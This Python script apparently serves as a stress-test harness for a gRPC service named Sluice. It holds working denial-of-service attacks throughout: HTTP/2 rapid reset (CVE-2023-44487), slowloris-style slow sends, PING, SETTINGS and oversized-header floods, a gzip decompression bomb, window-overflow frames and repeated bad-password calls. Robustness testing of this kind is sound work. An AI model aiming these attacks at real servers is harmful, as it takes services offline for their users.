#!/usr/bin/python3
"""Attacks on the port that go on until standard input ends: raw sockets, frames made before.

The first line of standard output says that the attack has begun, the last one what was done and
the attacker's own CPU seconds.
"""

import argparse
import base64
import functools
import json
import select
import socket
import ssl
import struct
import sys
import time
import zlib

from hostile import (CONTINUATION, DATA, HEADERS, PING, PREFACE, RST, SETTINGS, WINDOW_UPDATE,
                     call_headers, frame, literal)

PUBLISH = "/sluice.v1.SluiceService/Publish"
START = PREFACE + frame(SETTINGS, 0, 0)
BURST = 100
CALLS = 100
DIAL = 0.5                # seconds; who is shut out gets no answer


def ended(pause):
    """Wait so long; whether standard input has ended."""
    return bool(select.select([sys.stdin], [], [], pause)[0])


def source(options, n):
    """One of the addresses that the attacker has."""
    return options.source or "127.%d.%d.%d" % (options.network, n // 250 % 250, 2 + n % 250)


def dial(address, source, timeout=10):
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=timeout, source_address=(source, 0))


def read_away(peer):
    """What the server has said, thrown away; its length.  EOFError: it closed."""
    peer.setblocking(False)
    data = peer.recv(1 << 18)
    if not data:
        raise EOFError
    return len(data)


class Flood:
    """Bursts over a few connections, each replaced when the server closes it."""

    def __init__(self, options, make, opening=START):
        self.options, self.make, self.opening = options, make, opening
        self.peers = {}
        self.bursts = self.closed = 0

    def step(self, at):
        try:
            if at not in self.peers:
                peer = dial(self.options.address, source(self.options, at % 2), DIAL)
                self.peers[at] = [peer, 1]
                peer.sendall(self.opening)
            peer, stream = self.peers[at]
            burst, self.peers[at][1] = self.make(stream)
            peer.settimeout(0.2)
            peer.sendall(burst)
            self.bursts += 1
            while True:
                read_away(peer)
        except BlockingIOError:
            return
        except (EOFError, OSError):
            self.closed += 1
            if at in self.peers:
                self.peers.pop(at)[0].close()

    def run(self):
        self.step(0)
        begun()
        while not ended(self.options.pause):
            for at in range(self.options.peers):
                self.step(at)
        return {"bursts": self.bursts, "closed_by_server": self.closed}


def begun(**what):
    print(json.dumps({"begun": True, **what}), flush=True)


def hold(options, first):
    """So many connections from many addresses, each with a first word."""
    peers = []
    for n in range(options.count):
        try:
            peer = dial(options.address, source(options, n))
            peer.sendall(first(n))
            peers.append(peer)
        except OSError:
            continue
    begun(connections=len(peers))
    while not ended(1):
        pass
    return {"connections": len(peers)}


def attack_silent(options):
    """Connections that say nothing."""
    return hold(options, lambda n: b"")


def attack_half_handshake(options):
    """Half of the first message of TLS, or all of it and nothing after."""
    out = ssl.MemoryBIO()
    session = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), out, server_hostname="localhost")
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = out.read()
    return hold(options, lambda n: hello[:len(hello) // (1 + n % 2)])


def attack_slow(options):
    """The preface and a call, a byte at a time, on many connections."""
    text = START + frame(HEADERS, 4, 1, call_headers())
    peers, closed = [], 0
    for _ in range(options.count):
        peers.append(dial(options.address, source(options, len(peers))))
    begun(connections=len(peers))
    at = 0
    while not ended(0.1):
        for peer in list(peers):
            try:
                peer.sendall(text[at:at + 1])
            except OSError:
                closed += 1
                peers.remove(peer)
        at += 1
    return {"connections": options.count, "bytes": at, "closed_by_server": closed}


def attack_pings(options):
    burst = frame(PING, 0, 0, b"pingping") * BURST
    return Flood(options, lambda stream: (burst, stream)).run()


def attack_settings(options):
    burst = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * BURST
    return Flood(options, lambda stream: (burst, stream)).run()


def calls(one, stream):
    """A burst of one(stream), and the stream after it."""
    end = stream + 2 * BURST
    return b"".join(one(n) for n in range(stream, end, 2)), end


def stranger():
    """The headers of a call that will not be let in."""
    pair = base64.b64encode(b"guarded:wrong").decode()
    return call_headers() + literal("authorization", "Basic " + pair)


def attack_resets(options):
    """Calls that are opened and cancelled at once (CVE-2023-44487)."""
    headers = stranger()
    return Flood(options, functools.partial(calls, lambda n: frame(HEADERS, 4, n, headers) + frame(RST, 0, n, b"\0\0\0\x08"))).run()


def attack_drizzle(options):
    """The same, a few now and then, on many connections of one address."""
    headers = stranger()
    peers = [dial(options.address, source(options, 0)) for _ in range(options.count)]
    for peer in peers:
        peer.sendall(START)
    begun()
    stream, bursts, closed = 1, 0, 0
    while not ended(0.1):
        burst = b"".join(frame(HEADERS, 4, n, headers) + frame(RST, 0, n, b"\0\0\0\x08") for n in range(stream, stream + 8, 2))
        stream += 8
        for peer in list(peers):
            try:
                peer.settimeout(0.2)
                peer.sendall(burst)
                read_away(peer)
            except BlockingIOError:
                pass
            except (EOFError, OSError):
                peers.remove(peer)
                closed += 1
            bursts += 1
    return {"bursts": bursts, "closed_by_server": closed}


def attack_metadata(options):
    """In turn: large headers, many headers, CONTINUATION without an end."""
    large = literal("bomb", "x" * 120) * 120
    many = literal("b", "") * 3000

    def make(stream):
        kind = stream // 2 % 3
        if kind == 2:
            return frame(HEADERS, 0, stream, call_headers()) + frame(CONTINUATION, 0, stream, large) * 50, stream + 2
        text = call_headers() + (large, many)[kind]
        return frame(HEADERS, 4, stream, text), stream + 2
    return Flood(options, make).run()


def bomb():
    """A gzip stream of about 500 kB, of 512 MB of zeros."""
    block = bytes(1 << 20)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    part = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    check = 0
    for _ in range(512):
        check = zlib.crc32(block, check)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + part * 512 + packer.flush() + struct.pack("<II", check, 1 << 29)


def attack_bombs(options):
    """Messages of 500 kB that unpack to 512 MB, with their encoding told and without."""
    packed = bomb()
    message = b"\x01" + struct.pack(">I", len(packed)) + packed

    def make(stream):
        encoding = literal("grpc-encoding", "gzip") if stream % 4 == 1 else b""
        data = b"".join(frame(DATA, 0, stream, message[at:at + 16384]) for at in range(0, len(message), 16384))
        return frame(HEADERS, 4, stream, call_headers() + encoding) + data, stream + 2
    return Flood(options, make).run()


def attack_windows(options):
    """No window for answers, then windows that overflow, in turn."""
    headers = stranger()
    key = b"\x0a\x06window\x12\x02\x0a\x00"
    record = b"\x00" + struct.pack(">I", len(key)) + key

    def make(stream):
        opening = frame(HEADERS, 4, stream, headers) + frame(DATA, 1, stream, record)
        if stream % 4 == 1:
            return opening + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\x01") * BURST, stream + 2
        return opening + frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 2, stream + 2
    return Flood(options, make, PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))).run()


def attack_passwords(options):
    """Calls of a role that has a password, with others."""
    def one(stream):
        pair = base64.b64encode(b"guarded:wrong%d" % stream).decode()
        return frame(HEADERS, 5, stream, call_headers() + literal("authorization", "Basic " + pair))
    return Flood(options, functools.partial(calls, one)).run()


def attack_unspoken(options):
    """Calls whose first message never comes; --count of them."""
    peers = []
    for _ in range(options.count // CALLS):
        peer = dial(options.address, source(options, len(peers)))
        peer.sendall(START + b"".join(frame(HEADERS, 4, 1 + 2 * n, call_headers(PUBLISH)) for n in range(CALLS)))
        peers.append(peer)
    begun()
    while not ended(1):
        pass
    return {"connections": len(peers) * CALLS}


def main():
    attacks = {name[len("attack_"):]: value for name, value in globals().items() if name.startswith("attack_")}
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attack", choices=sorted(attacks))
    parser.add_argument("--address", required=True, help="HOST:PORT, without TLS but for silent and half_handshake")
    parser.add_argument("--network", type=int, default=1, help="connect from 127.NETWORK.*.*")
    parser.add_argument("--source", help="connect from this address")
    parser.add_argument("--count", type=int, default=300)
    parser.add_argument("--peers", type=int, default=4, help="connections of a flood")
    parser.add_argument("--pause", type=float, default=0, help="seconds between the bursts of a flood")
    options = parser.parse_args()
    report = attacks[options.attack](options)
    print(json.dumps({**report, "cpu": round(time.process_time(), 2)}), flush=True)


if __name__ == "__main__":
    main()
